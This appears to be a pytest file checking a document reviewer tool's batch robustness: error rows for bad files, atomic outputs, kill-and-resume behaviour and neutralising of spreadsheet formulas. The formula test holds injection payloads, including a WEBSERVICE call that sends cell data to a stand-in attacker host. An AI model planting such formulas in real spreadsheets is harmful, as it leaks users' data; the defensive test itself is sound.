"""Batch robustness: a bad file is an error row with its reason, a killed batch leaves a valid
output that --resume completes without duplicates, and outputs appear atomically."""
from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from reviewer import cli
from robust_files import OLE, PNG, PROSE, SECRET, corrupt_docx, encrypted_pdf, scanned_pdf, text_pdf
from cli_run import run  # tests/cli_run.py

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"



@pytest.fixture
def bad_folder(tmp_path: Path) -> Path:
    root = tmp_path / "docs"
    root.mkdir()
    shutil.copy(EXAMPLES / "cp_plan.txt", root / "good.txt")
    (root / "empty.txt").write_bytes(b"")
    (root / "random.docx").write_bytes(os.urandom(2048))
    (root / "corrupt.docx").write_bytes(corrupt_docx())
    (root / "photo.pdf").write_bytes(PNG)
    (root / "scanned.pdf").write_bytes(scanned_pdf())
    (root / "locked.pdf").write_bytes(encrypted_pdf("pw"))
    (root / "notes.pdf").write_bytes(PROSE.encode())
    (root / "fine.pdf").write_bytes(text_pdf())
    return root


EXPECTED_ERRORS = {
    "empty.txt": "is empty",
    "random.docx": "not a Word .docx file",
    "corrupt.docx": "is corrupt or truncated",
    "photo.pdf": "is an image",
    "scanned.pdf": "OCR is not supported",
    "locked.pdf": "password-protected",
    "notes.pdf": "not a PDF file",
}


def test_each_bad_file_is_an_error_row_with_its_reason(capsys, bad_folder, tmp_path):
    out = tmp_path / "rows.csv"
    code, _, err = run(capsys, "batch", bad_folder, "--out", out, "-q")
    assert code == 0, err
    rows = pd.read_csv(out, dtype=str, keep_default_na=False).set_index("id")
    assert set(rows.index) == set(EXPECTED_ERRORS) | {"good.txt", "fine.pdf"}
    for name, reason in EXPECTED_ERRORS.items():
        assert rows.loc[name, "status"] == "error"
        assert rows.loc[name, "error"].startswith(f"{name}: ") and reason in rows.loc[name, "error"]
    assert rows.loc["good.txt", "status"] == rows.loc["fine.pdf", "status"] == "ok"
    assert SECRET not in out.read_text(encoding="utf-8") + err
    assert SECRET not in (tmp_path / "rows.findings.csv").read_text(encoding="utf-8")


def test_legacy_doc_in_a_folder_is_an_error_row(capsys, tmp_path):
    root = tmp_path / "docs"
    root.mkdir()
    shutil.copy(EXAMPLES / "cp_plan.txt", root / "good.txt")
    (root / "old.doc").write_bytes(OLE)
    out = tmp_path / "rows.csv"
    code, _, _ = run(capsys, "batch", root, "--out", out, "-q")
    rows = pd.read_csv(out, dtype=str, keep_default_na=False).set_index("id")
    assert code == 0 and "old.doc" in rows.index and "legacy Word .doc" in rows.loc["old.doc", "error"]


# --------------------------------------------------------------------------- tables


def test_table_without_the_text_column_names_file_column_and_columns(capsys, tmp_path):
    path = tmp_path / "cases.csv"
    pd.DataFrame({"id": ["a"], "body": [PROSE]}).to_csv(path, index=False)
    code, out, err = run(capsys, "batch", path, "--out", tmp_path / "o.csv", "--text-column", "notes")
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert "cases.csv" in err and "'notes'" in err and "id, body" in err
    assert SECRET not in err + out and not (tmp_path / "o.csv").exists()


def test_table_empty_rows_become_error_rows_and_blank_lines_are_skipped(capsys, tmp_path):
    path = tmp_path / "cases.csv"
    path.write_text('id,text\nc1,"' + PROSE.replace('"', '""') + '"\nc2,\n\n\nc3,"   "\n', encoding="utf-8")
    out = tmp_path / "o.csv"
    code, _, err = run(capsys, "batch", path, "--out", out, "-q")
    assert code == 0, err
    rows = pd.read_csv(out, dtype=str, keep_default_na=False).set_index("id")
    assert list(rows.index) == ["c1", "c2", "c3"]
    assert rows.loc["c1", "status"] == "ok"
    for doc_id in ("c2", "c3"):
        assert rows.loc[doc_id, "status"] == "error" and rows.loc[doc_id, "error"] == f"{doc_id}: is empty (no text to review)"


def test_xlsx_formula_cells_are_text_never_evaluated_nor_written_as_formulas(capsys, tmp_path):
    path = tmp_path / "cases.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["id", "text"])
    sheet.append(["=HYPERLINK(\"http://evil.example\",\"x\")", PROSE])
    sheet.append(["c2", "=1+1"])
    sheet.append([None, None])  # an empty row
    sheet.append(["c3", "=WEBSERVICE(\"http://evil.example/\"&A2)"])
    workbook.save(path)
    out = tmp_path / "o.xlsx"
    code, _, err = run(capsys, "batch", path, "--out", out, "-q")
    assert code == 0, err
    result = openpyxl.load_workbook(out)
    values = [[c.value for c in row] for row in result["documents"].iter_rows(min_row=2, max_col=6)]
    ids = [v[0] for v in values]
    assert ids == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "c2", "c3"]  # neutralised, not a formula
    assert all(c.data_type != "f" for sheet in result for row in sheet.iter_rows() for c in row)
    statuses = {v[0]: v[4] for v in values}
    assert statuses["c2"] == statuses["c3"] == "ok"  # the formula's text was reviewed as text


# --------------------------------------------------------------------------- atomic outputs


def _interrupt_at(monkeypatch, after: int) -> None:
    """Make the reviewer be interrupted (Ctrl-C) at its `after`-th document."""
    from reviewer.reviewer import Reviewer

    real = Reviewer.review
    seen = [0]

    def review(self, *args, **kwargs):
        seen[0] += 1
        if seen[0] >= after:
            raise KeyboardInterrupt
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Reviewer, "review", review)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl"])
def test_interrupted_batch_leaves_the_old_output_untouched_and_no_temporary_files(
        capsys, monkeypatch, bad_folder, tmp_path, suffix):
    out = tmp_path / f"rows{suffix}"
    out.write_bytes(b"previous results")
    _interrupt_at(monkeypatch, 2)
    code, _, err = run(capsys, "batch", bad_folder, "--out", out, "-q")
    assert code == 2 and "interrupted" in err and "Traceback" not in err
    assert out.read_bytes() == b"previous results"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["docs", out.name])


def test_interrupted_resumable_jsonl_batch_keeps_only_whole_lines(capsys, monkeypatch, bad_folder, tmp_path):
    out = tmp_path / "rows.jsonl"
    _interrupt_at(monkeypatch, 2)
    code, _, _ = run(capsys, "batch", bad_folder, "--out", out, "-q", "--resume")
    assert code == 2
    assert [p.name for p in tmp_path.iterdir() if p.name not in ("docs", out.name)] == []
    if out.exists():
        for line in out.read_text(encoding="utf-8").splitlines():
            json.loads(line)


# --------------------------------------------------------------------------- kill and resume


def _has_resume() -> bool:
    return "--resume" in cli.build_parser()._subparsers._group_actions[0].choices["batch"].format_help()


def _read_jsonl(path: Path) -> list[dict]:
    text = path.read_text(encoding="utf-8")
    assert text == "" or text.endswith("\n"), "the output ends in a partial line"
    return [json.loads(line) for line in text.splitlines()]


def _folder_of(tmp_path: Path, n: int = 60) -> Path:
    root = tmp_path / "docs"
    root.mkdir()
    texts = [(EXAMPLES / name).read_text(encoding="utf-8") for name in ("assessment.txt", "cp_plan.txt", "cin_plan.txt")]
    for i in range(n):
        (root / f"doc{i:03d}.txt").write_text(texts[i % 3] + f"\n\nCase note {i}.\n", encoding="utf-8")
    (root / "broken.docx").write_bytes(os.urandom(512))
    return root


def _kill_when(command: list[str], ready, timeout: float = 120) -> None:
    """Start `command`, SIGKILL it as soon as `ready()` is true; fail if it finished first."""
    process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline and process.poll() is None and not ready():
            time.sleep(0.01)
    finally:
        if process.poll() is None:
            os.kill(process.pid, signal.SIGKILL)
        process.wait(timeout=30)
    if process.returncode != -signal.SIGKILL:
        pytest.skip("the batch finished before it could be killed (machine too fast for this test)")


def _temporary_files(folder: Path, out: Path) -> list[Path]:
    return [p for p in folder.iterdir() if p.name.startswith(f".{out.name}")]


@pytest.mark.slow
@pytest.mark.parametrize("first_run_resumes", [True, False], ids=["first-run-resume", "first-run-plain"])
def test_killed_batch_leaves_valid_output_that_resume_completes_without_duplicates(tmp_path, first_run_resumes):
    if not _has_resume():
        pytest.xfail("reviewer batch --resume does not exist yet")
    root = _folder_of(tmp_path)
    out = tmp_path / "rows.jsonl"
    command = [sys.executable, "-m", "reviewer", "batch", str(root), "--out", str(out), "-q"]

    def ready() -> bool:
        if first_run_resumes:
            return out.exists() and out.read_bytes().count(b"\n") >= 5
        return any(p.stat().st_size > 20_000 for p in _temporary_files(tmp_path, out))

    _kill_when(command + (["--resume"] if first_run_resumes else []), ready)
    partial = _read_jsonl(out) if out.exists() else []  # valid: whole JSON lines only (or nothing yet)
    assert len(partial) < 61
    if first_run_resumes:
        assert partial, "a resumable run keeps the documents it finished"

    done = subprocess.run(command + ["--resume"], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    records = _read_jsonl(out)
    ids = [r["id"] for r in records]
    assert len(ids) == len(set(ids)), "duplicates after --resume"
    assert set(ids) == {f"doc{i:03d}.txt" for i in range(60)} | {"broken.docx"}
    assert [r["id"] for r in records[:len(partial)]] == [r["id"] for r in partial]  # kept, not redone
    assert next(r for r in records if r["id"] == "broken.docx")["status"] == "error"


@pytest.mark.slow
def test_killed_batch_leaves_no_temporary_file_with_document_text(tmp_path):
    root = _folder_of(tmp_path)
    out = tmp_path / "rows.jsonl"
    command = [sys.executable, "-m", "reviewer", "batch", str(root), "--out", str(out), "-q"]
    _kill_when(command, lambda: any(p.stat().st_size > 20_000 for p in _temporary_files(tmp_path, out)))
    subprocess.run(command + ["--resume"], cwd=ROOT, capture_output=True, timeout=300, check=True)
    assert _temporary_files(tmp_path, out) == []
